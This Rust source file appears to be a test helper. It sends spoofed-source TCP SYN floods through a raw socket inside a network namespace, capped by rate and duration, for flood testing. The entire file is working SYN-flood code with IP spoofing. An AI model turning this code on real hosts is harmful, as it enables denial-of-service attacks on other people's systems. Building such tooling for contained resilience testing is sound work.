//! A bounded SYN flooder: spoofed SYNs from random sources, sent through a raw socket in a
//! namespace at a set rate for a set time (so it can never run away), for flood tests.
use std::{
    net::{Ipv4Addr, SocketAddrV4},
    time::{Duration, Instant},
};

use anyhow::bail;
use etherparse::PacketBuilder;

use crate::netns::Netns;

/// Sends SYNs to `to` from random addresses in `sources` (a /16: its first two bytes) and
/// random ports, `rate` a second for `duration`, from inside `ns`. How many were sent.
pub fn syn_flood(
    ns: &Netns,
    to: SocketAddrV4,
    sources: [u8; 2],
    rate: u64,
    duration: Duration,
) -> anyhow::Result<u64> {
    ns.run(move || flood_here(to, sources, rate, duration))
}

fn flood_here(
    to: SocketAddrV4,
    sources: [u8; 2],
    rate: u64,
    duration: Duration,
) -> anyhow::Result<u64> {
    // IPPROTO_RAW: the packets carry their own IP header, spoofed source included.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if fd < 0 {
        bail!("raw socket: {}", std::io::Error::last_os_error());
    }
    let dst = libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: 0,
        sin_addr: libc::in_addr {
            s_addr: u32::from_ne_bytes(to.ip().octets()),
        },
        sin_zero: [0; 8],
    };
    let mut x = 0x2545_f491_4f6c_dd1du64 ^ rate;
    let mut next = move || {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        x
    };
    let started = Instant::now();
    let total = rate * duration.as_millis() as u64 / 1000;
    let mut sent = 0u64;
    let mut packet = Vec::with_capacity(64);
    while sent < total && started.elapsed() < duration + Duration::from_secs(1) {
        let due = (rate * started.elapsed().as_micros() as u64 / 1_000_000).min(total);
        if sent >= due {
            std::thread::sleep(Duration::from_micros(200));
            continue;
        }
        while sent < due {
            let r = next();
            let src = Ipv4Addr::new(sources[0], sources[1], (r >> 8) as u8, (r as u8).max(1));
            packet.clear();
            PacketBuilder::ipv4(src.octets(), to.ip().octets(), 64)
                .tcp(
                    1024 + (r >> 16) as u16 % 60_000,
                    to.port(),
                    (r >> 32) as u32,
                    64240,
                )
                .syn()
                .write(&mut packet, &[])?;
            let n = unsafe {
                libc::sendto(
                    fd,
                    packet.as_ptr().cast(),
                    packet.len(),
                    0,
                    std::ptr::from_ref(&dst).cast(),
                    std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
                )
            };
            if n < 0 {
                let e = std::io::Error::last_os_error();
                // A full queue: try again shortly.
                if e.raw_os_error() == Some(libc::ENOBUFS) {
                    break;
                }
                unsafe { libc::close(fd) };
                bail!("sending a SYN: {e}");
            }
            sent += 1;
        }
    }
    unsafe { libc::close(fd) };
    Ok(sent)
}
